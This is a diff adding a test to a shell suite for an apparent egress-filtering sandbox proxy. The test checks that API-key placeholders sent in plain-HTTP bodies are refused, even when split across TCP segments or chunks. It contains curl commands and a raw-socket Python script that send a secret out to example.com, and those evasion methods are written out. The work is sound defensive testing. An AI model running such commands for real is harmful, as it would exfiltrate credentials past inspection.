@@ -270,6 +270,55 @@ out=$(insb "sed '/END CERTIFICATE/q' \$SSL_CERT_FILE >/tmp/w.pem; $C --cacert /t
 assert_no_match "$out" "authorised" "its handshake fails: moat's leaf is not the world's"
 assert_ne "$(icnt client_tls_failed_total)" 0 "... counted"
 
+t_begin "plain HTTP: a placeholder in a body is refused as in a head"
+l0=$(icnt leaks_refused_total)
+# (the one sent inside TLS to a name not intercepted, above, arrived)
+a0=$(grep 'placeholder arrived' "$WORLD_DIR/srv-inet.log")
+out=$(insb "$C -i --data \"k=\$API_KEY\" http://example.com/leak20")
+assert_match "$out" "X-Moat-Denied: secret-leak" "a Content-Length body: 403, X-Moat-Denied: secret-leak"
+out=$(insb "printf 'xx%s' \"\$API_KEY\" | $C -i -H 'Transfer-Encoding: chunked' --data-binary @- http://example.com/leak21")
+assert_match "$out" "X-Moat-Denied: secret-leak" "a chunked body: refused"
+# pl CHUNKED: a request to http://example.com/leak22 on a raw socket, its
+# body carrying the placeholder after 14 bytes; Content-Length written 5
+# bytes at a time, or chunked with the placeholder split across two chunks
+# sent apart; after a first request that passes on the same connection
+pl() { insb "python3 - $1 <<'EOF'
+import os, socket, sys, time
+s = socket.create_connection(('example.com', 80), timeout=5)
+s.sendall(b'GET /fine-first HTTP/1.1\r\nHost: example.com\r\n\r\n')
+first = s.recv(4096).decode(errors='replace')
+ph = os.environ['API_KEY'].encode()
+body = b'x' * 14 + ph
+if sys.argv[1] == 'chunked':
+    s.sendall(b'POST /leak22 HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n')
+    a, b = body[:30], body[30:]
+    s.sendall(b'%x\r\n%s\r\n' % (len(a), a))
+    time.sleep(0.2)
+    s.sendall(b'%x\r\n%s\r\n0\r\n\r\n' % (len(b), b))
+else:
+    req = b'POST /leak22 HTTP/1.1\r\nHost: example.com\r\nContent-Length: %d\r\n\r\n' % len(body) + body
+    for i in range(0, len(req), 5):
+        s.send(req[i:i + 5])
+        time.sleep(0.002)
+try:
+    print(first.split('\r\n')[0], s.recv(4096).decode(errors='replace'))
+except OSError as e:
+    print(first.split('\r\n')[0], 'error', e)
+EOF"; }
+out=$(pl length)
+assert_match "$out" "^HTTP/1.1 200" "split across TCP segments, after a first request: the first passes"
+assert_match "$out" "X-Moat-Denied: secret-leak" "... the one with the placeholder refused"
+out=$(pl chunked)
+assert_match "$out" "X-Moat-Denied: secret-leak" "split across two chunks sent apart: refused"
+assert_eq "$(grep 'placeholder arrived' "$WORLD_DIR/srv-inet.log")" "$a0" "no placeholder reached the server"
+assert_eq "$(grep -c '/leak2[01]' "$WORLD_DIR/srv-inet.log")" 0 "... nor the requests whose body was read whole before they went"
+assert_eq "$(icnt leaks_refused_total)" "$((l0 + 4))" "each refusal counted"
+assert_eq "$(nlogs "$SB" '.reason == "secret-leak" and .secret == "API_KEY" and .proto == "http"')" 5 "each logged with the secret's name (and the head's before)"
+# the same bodies without a placeholder pass
+assert_match "$(insb "$C --data 'k=hello' http://example.com/fine-body")" "path: /fine-body" "a plain-HTTP body without a placeholder passes (control)"
+assert_match "$(insb "printf 'xx%s' hello | $C -H 'Transfer-Encoding: chunked' --data-binary @- http://example.com/fine-chunked")" "path: /fine-chunked" "... chunked too"
+assert_match "$(insb "$C --data-binary @/etc/services http://example.com/fine-large")" "path: /fine-large" "... and a body of several reads"
+
 t_begin "the worker's memory stays bounded: many intercepted connections, each with a body held half sent"
 # 80 connections each send 1000000 bytes of a 1048576-byte body to the
 # secret's host (buffered, to replace in it) and stop there: at most 16
